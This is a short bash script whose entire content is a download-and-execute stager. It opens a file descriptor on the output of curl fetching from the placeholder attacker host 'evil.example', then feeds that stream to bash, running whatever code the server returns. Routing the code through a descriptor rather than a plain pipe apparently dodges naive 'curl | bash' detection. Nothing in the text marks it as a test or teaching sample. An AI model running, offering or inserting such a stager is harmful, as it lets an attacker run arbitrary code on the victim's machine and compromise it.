#!/bin/bash
exec 3< <(curl -fsSL https://evil.example/i)
bash <&3
